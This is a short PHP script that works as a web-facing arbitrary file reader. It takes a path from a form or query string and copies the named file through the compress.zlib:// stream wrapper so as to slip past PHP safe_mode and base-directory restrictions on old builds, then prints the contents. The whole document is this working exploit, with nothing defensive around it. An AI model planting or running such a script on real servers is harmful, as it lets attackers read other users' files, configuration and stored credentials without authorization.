<?php
// Reads whichever file the visitor names by copying it out through the zlib stream wrapper
// into a scratch file first, then prints the copy (the wrapper path slipped past the sandbox's
// owner and base-directory checks on old PHP builds).
$scratch = './';
if (ini_get('safe_mode')) {
    echo "sandbox: on<br>";
}
$wanted = isset($_POST['path']) ? $_POST['path'] : (isset($_GET['path']) ? $_GET['path'] : '');
if ($wanted === '') {
    die('<form method="post"><input name="path"><input type="submit" value="show"></form>');
}
$copyTo = tempnam($scratch, 'rd');
if (copy('compress.zlib://' . $wanted, $copyTo)) {
    $h = fopen($copyTo, 'r');
    $body = fread($h, filesize($copyTo));
    fclose($h);
    unlink($copyTo);
    echo '<pre>' . htmlspecialchars($body) . '</pre>';
} else {
    echo 'unreadable';
}
